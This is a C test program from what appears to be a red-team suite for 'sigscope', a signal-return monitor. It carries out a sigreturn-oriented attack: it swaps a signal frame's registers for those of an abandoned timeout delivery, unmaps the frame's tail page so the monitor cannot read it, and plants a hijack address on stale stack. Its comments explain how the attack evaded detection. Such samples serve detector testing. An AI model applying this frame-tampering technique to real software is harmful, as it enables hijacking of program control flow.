/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_stale_exit (red team round 10, a2_stale_unread and a3_stale_race): a genuine frame whose
 * registers are replaced by those of an abandoned delivery (a SIGALRM timeout left with
 * siglongjmp, still outstanding), its tail page then dropped so that sigscope cannot read it at
 * the sigreturn's entry (mal.h MAL_UNREAD_FRAME; a3 won the same with a sibling thread's write
 * between sigscope's read and the kernel's). The thread resumes in the abandoned slow_op(), whose
 * `ret` pops a slot of dead stack written with mal_pwned.
 *
 * Why it got through: mode full's exit decides which entry it completes by the registers. The
 * restored ones differed from the frame the entry read (or it read none) and were explained by a
 * live delivery, the abandoned one, so the pending entry was taken for a stale one whose exit the
 * kernel skipped, and this exit was judged alone, as a clean return through the abandoned
 * delivery. On a kernel that never skips sigscope's exit programs, a pending entry is always the
 * exit's own (pairing.h sigscope_exit_pairing).
 *
 * Expected from sigscope: full: tampered_context (high: every register differs from what the
 * SIGUSR1 delivery saved); enter, light: toctou (high, the frame was unread).
 */
#define MAL_UNREAD_FRAME
#include "mal.h" /* first: it defines _GNU_SOURCE */

#include <setjmp.h>
#include <sys/time.h>

MAL_REDIRECT_SITE();

volatile int slow_done;
static sigjmp_buf timeout_env;
static struct k_sigcontext64 abandoned; /* the timeout's saved context, as an attacker reads it */

/* The slow operation the timeout abandons: spins, then returns through the slot at rsp. */
void slow_op(void);
__asm__(".text\n.globl slow_op\n.type slow_op, @function\nslow_op:\n"
	"1: cmpl $0, slow_done(%rip)\n\tje 1b\n\tret\n");

static void on_alarm(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	memcpy(&abandoned, &((ucontext_t *)ucv)->uc_mcontext, sizeof(abandoned));
	siglongjmp(timeout_env, 1); /* the timeout: its delivery stays outstanding */
}

__attribute__((noinline)) static void deep(void)
{
	char pad[64 * 1024]; /* slow_op runs far below main's frame */

	memset(pad, 1, sizeof(pad));
	__asm__ volatile("" : : "r"(pad) : "memory");
	slow_op();
	__asm__ volatile("" : : "r"(pad) : "memory");
}

/* SIGUSR1 on the prepared altstack: the abandoned context into this genuine frame (its own FP
 * state pointer kept), then the frame's tail out of the page tables. */
static void on_usr1(int sig, siginfo_t *info, void *ucv)
{
	struct k_sigcontext64 *sc = (void *)&((ucontext_t *)ucv)->uc_mcontext;
	uint64_t frame = (uint64_t)ucv - 8, fpstate = sc->fpstate;

	(void)sig;
	(void)info;
	memcpy(sc, &abandoned, offsetof(struct k_sigcontext64, fpstate));
	sc->fpstate = fpstate;
	madvise((void *)((frame & ~(MAL_PAGE - 1)) + MAL_PAGE), MAL_PAGE, MADV_DONTNEED);
}

int main(void)
{
	struct itimerval it = {.it_value = {0, 50000}};

	mal_init("srop_stale_exit", 10);
	mal_unread_frame_setup(
	    SIGUSR1); /* the altstack placed so the frame's tail is a page apart */
	mal_handle(SIGUSR1, on_usr1, SA_ONSTACK);
	mal_handle(SIGALRM, on_alarm, 0);
	if (!sigsetjmp(timeout_env, 1)) {
		setitimer(ITIMER_REAL, &it, NULL);
		deep();
	}
	mal_say("timed out; abandoned context rip %#lx rsp %#lx", (unsigned long)abandoned.rip,
		(unsigned long)abandoned.rsp);
	*(uint64_t *)abandoned.rsp = (uint64_t)mal_pwned; /* memory writes only */
	slow_done = 1;
	redirect_site_tgkill(getpid(), syscall(SYS_gettid), SIGUSR1);
	mal_say("the handler returned normally: the abandoned context did not run");
	return MAL_EXIT_NOTHING;
}
